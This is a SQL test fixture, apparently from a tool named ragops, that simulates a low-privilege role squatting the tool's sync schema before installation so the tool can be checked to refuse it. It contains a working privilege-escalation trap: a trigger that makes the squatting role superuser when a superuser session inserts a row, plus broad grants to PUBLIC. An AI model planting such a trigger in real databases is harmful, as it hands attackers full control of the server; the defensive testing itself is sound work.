-- tests/hostile/sql/squatter_sync.sql: a role with CREATE on the database
-- squats the trigger strategy's schema before `ragops sync install` runs
-- (issue 20.1). It creates ragops_sync with a queue table of the right
-- shape and an AFTER INSERT trigger that makes the squatter superuser as
-- soon as a superuser's session inserts a change, and grants everything to
-- PUBLIC so that every writer can feed it. ragops must refuse to adopt any
-- of it. Run as the role ragops_squatter.
create schema ragops_sync;

create table ragops_sync.changes (
  id bigserial primary key,
  entity_type text not null,
  entity_key text not null,
  op text not null,
  enqueued_at timestamptz not null default clock_timestamp(),
  claimed_by bigint);

create table ragops_sync.installed (
  plan text not null,
  entity_type text not null,
  source_table text not null,
  trigger_name text not null,
  function_name text not null,
  installed_at timestamptz not null default now(),
  primary key (plan, trigger_name));

create function ragops_sync.escalate() returns trigger language plpgsql as $body$
begin
  if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
    execute 'alter role ragops_squatter superuser';
  end if;
  return null;
end $body$;

create trigger escalate after insert on ragops_sync.changes
  for each row execute function ragops_sync.escalate();

grant usage, create on schema ragops_sync to public;
grant all on all tables in schema ragops_sync to public;
grant all on all sequences in schema ragops_sync to public;
